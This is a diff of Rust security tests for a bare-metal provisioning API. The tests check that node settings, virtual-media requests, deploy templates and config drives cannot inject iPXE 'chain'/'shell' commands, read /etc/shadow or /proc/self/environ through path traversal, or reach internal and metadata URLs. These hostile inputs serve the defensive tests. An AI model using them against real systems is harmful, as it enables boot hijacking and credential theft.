@@ -18,32 +18,116 @@ fn source() -> AgentSource {
     }
 }
 
-#[tokio::test]
-async fn boot_script_injection_by_kernel_parameters() {
+/// A node that is about to boot its agent boots the same whatever its own members say.
+async fn boots_the_same(info: Value) {
     let rig = super::super::Rig::new().await;
     let (id, _) = rig.inspected_node("n1", "52:54:00:00:00:01").await;
     let mac: Mac = "52:54:00:00:00:01".parse().expect("a MAC");
-    let script =
-        || boot_script(&rig.api.engine.view(), mac, UnknownMachines::NoBoot, &source(), |_, _| Some("t".into()));
-    let BootScript::Agent { arguments: before, kernel, initrds, .. } = script() else { panic!("it boots its agent") };
-    let evil = "x\nchain http://10.0.0.66/evil\nshell ipa-api-url=https://10.0.0.66";
+    let script = |view: &leasehold_domain::View| {
+        boot_script(view, mac, UnknownMachines::NoBoot, &source(), |_, _| Some("t".into()))
+    };
+    let mut view = (*rig.api.engine.view()).clone();
+    let BootScript::Agent { arguments: before, kernel, initrds, .. } = script(&view) else { panic!("its agent") };
     let mut node = (**rig.api.engine.view().node(id).expect("there")).clone();
-    let info = json!({
-        "kernel_append_params": evil, "pxe_append_params": evil, "deploy_kernel": "http://10.0.0.66/k",
-        "deploy_ramdisk": "http://10.0.0.66/r", "pxe_template": "/etc/shadow", "kernel": "http://10.0.0.66/k",
-        "boot_iso": "file:///etc/shadow", "ramdisk": "../../../etc/shadow", "capabilities": {"boot_option": evil},
-    });
     let info = info.as_object().expect("an object").clone();
     node.settings.instance_info = info.clone();
     node.settings.driver_info.extend(info.clone());
     node.settings.extra = info.clone();
     node.settings.properties = info;
-    let mut view = (*rig.api.engine.view()).clone();
     view.apply(&leasehold_domain::Change::PutNode(Arc::new(node)));
-    let after = boot_script(&view, mac, UnknownMachines::NoBoot, &source(), |_, _| Some("t".into()));
-    let BootScript::Agent { arguments, kernel: now, initrds: ram, title } = after else { panic!("it boots its agent") };
-    assert_eq!((arguments, now, ram), (before, kernel, initrds), "nothing of a node's own is in its boot");
+    let BootScript::Agent { arguments, kernel: now, initrds: ram, title } = script(&view) else { panic!("its agent") };
+    assert_eq!((arguments, now, ram), (before, kernel, initrds), "something of a node's own is in its boot");
     assert!(!title.contains('\n') && !title.contains("chain"), "{title}");
+}
+
+#[tokio::test]
+async fn boot_script_injection_by_kernel_parameters() {
+    let evil = "x\nchain http://10.0.0.66/evil\nshell ipa-api-url=https://10.0.0.66";
+    boots_the_same(json!({
+        "kernel_append_params": evil, "pxe_append_params": evil, "ramdisk_kernel_arguments": evil,
+        "capabilities": {"boot_option": evil}, "root_device": {"name": evil},
+    }))
+    .await;
+}
+
+#[tokio::test]
+async fn path_traversal_from_an_iso() {
+    boots_the_same(json!({
+        "boot_iso": "file:///../../../etc/shadow", "deploy_iso": "../../../etc/shadow", "rescue_iso": "/dev/zero",
+        "deploy_kernel": "../../../etc/shadow", "deploy_ramdisk": "file:///etc/shadow", "kernel": "../../key",
+        "ramdisk": "../../../etc/shadow", "deploy_kernel/x86_64": "http://10.0.0.66/k",
+    }))
+    .await;
+    let scene = Scene::new("admin", "admin").await;
+    for device in ["cdrom", "../../etc"] {
+        for url in ["file:///../../etc/shadow", "../../../etc/shadow", "/etc/shadow", "http://127.0.0.1/x.iso"] {
+            let body = json!({"device_type": device, "image_url": url, "image_download_source": "local"});
+            let path = format!("/nodes/{}/vmedia", scene.node);
+            let (status, answer) = scene.ask(&scene.owner, "POST", &path, body).await;
+            assert!(status.is_client_error(), "{device} {url}: {answer}");
+            assert!(!answer.to_string().contains("root:"), "{answer}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn path_traversal_from_a_template() {
+    boots_the_same(json!({
+        "pxe_template": "../../../etc/shadow", "ipxe_template": "../../../../etc/passwd",
+        "pxe_bootfile_name": "../../../etc/shadow", "boot_template": "a/../../b",
+    }))
+    .await;
+    // Templates of deployments have names, not files; no step takes a path.
+    let scene = Scene::new("admin", "admin").await;
+    let root = Tenant { project: String::new(), token: scene.rig.token("admin", PASSWORD, system()).await };
+    for name in ["../../../etc/shadow", "CUSTOM_../X", "/etc/shadow", "CUSTOM_A/../B", "CUSTOM_A\0", "CUSTOM_%2e%2e"] {
+        let steps = json!([{"interface": "deploy", "step": "write_image", "args": {}, "priority": 10}]);
+        let body = json!({"name": name, "steps": steps});
+        let (status, answer) = scene.with(&root, "POST", "/baremetal/v1/deploy_templates", body).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{name:?}: {answer}");
+    }
+    for path in ["..%2f..%2fkey", "%2e%2e/key", "CUSTOM_A%2f..%2f..", "%2fetc%2fshadow"] {
+        let (status, _) =
+            scene.with(&root, "GET", &format!("/baremetal/v1/deploy_templates/{path}"), Value::Null).await;
+        assert!(status.is_client_error(), "{path}");
+    }
+}
+
+#[tokio::test]
+async fn absolute_template_path() {
+    boots_the_same(json!({
+        "pxe_template": "/etc/shadow", "ipxe_template": "/proc/self/environ", "template": "/etc/leasehold/tls.key",
+        "inspector_template": "file:///etc/shadow",
+    }))
+    .await;
+}
+
+/// What an image says of itself, or of what should start it, starts nothing: its loader is found by name on the disk that
+/// was written, by the agent, which runs nothing of it (`boot-images/agent`, `boot::efi`, `boot::fat`).
+#[tokio::test]
+async fn bootloader_tricks_of_an_image() {
+    boots_the_same(json!({
+        "bootloader": "file:///etc/shadow", "image_bootloader": "http://10.0.0.66/esp.img", "kernel_id": NOWHERE,
+        "ramdisk_id": NOWHERE, "image_properties": {"kernel_id": NOWHERE, "bootloader": "../../../etc/shadow"},
+        "boot_option": "ramdisk", "image_type": "partition", "root_gb": 1,
+    }))
+    .await;
+}
+
+#[tokio::test]
+async fn a_config_drive_is_fetched_or_read_for_the_sender() {
+    let rig = super::super::Rig::new().await;
+    // Born free, as nodes were in old versions: it may be deployed, but for its config drive.
+    let body = json!({"driver": "fake-hardware", "name": "free"}).to_string();
+    assert_eq!(rig.raw("POST", "/baremetal/v1/nodes", body, &[(VERSION, "1.10")]).await.0, StatusCode::CREATED);
+    for drive in
+        ["http://127.0.0.1/x", "https://169.254.169.254/latest", "file:///etc/shadow", "/etc/shadow", "../../key"]
+    {
+        let body = json!({"target": "active", "configdrive": drive});
+        let (status, answer) = rig.call("PUT", "/nodes/free/states/provision", body).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{drive}: {answer}");
+        assert!(answer.to_string().contains("configdrive"), "it is the drive that is refused: {answer}");
+    }
 }
 
 #[tokio::test]
